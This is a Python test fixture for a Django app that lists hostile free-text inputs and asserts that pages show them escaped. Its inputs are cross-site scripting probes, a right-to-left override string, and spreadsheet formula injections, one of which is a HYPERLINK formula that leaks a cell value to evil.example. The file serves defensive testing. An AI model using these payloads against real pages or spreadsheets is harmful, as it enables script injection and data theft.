"""What a hostile reader or a careless staff member types into a free-text field, and how a page must show it.

Markup must reach a page escaped, never as tags; bidi controls, Arabic, Hebrew and emoji (with zero-width
joiners) must reach it as written; text starting like a formula must reach a spreadsheet as text.
"""

from django.utils.html import escape

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RTL = "\u202eevil\u202c مرحبا بالعالم שלום"
EMOJI = "👩‍👩‍👧‍👦 🇺🇦 ❤️‍🔥 🏳️‍🌈"

MARKUP = [SCRIPT, IMG]
TEXT = [RTL, EMOJI]
HOSTILE = [*MARKUP, *TEXT]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
# Markup that would run if a page put it out unescaped.
RAW_MARKUP = ("<script>alert(1)", "<img src=x")


def assert_escaped(html: str, text: str) -> None:
    """The page shows `text` (escaped as Django's templates escape it) and holds none of its markup."""
    for raw in RAW_MARKUP:
        assert raw not in html, f"{raw!r} reached the page unescaped"
    assert escape(text) in html, f"{text!r} is not shown"


def assert_no_markup(html: str) -> None:
    for raw in RAW_MARKUP:
        assert raw not in html, f"{raw!r} reached the page unescaped"
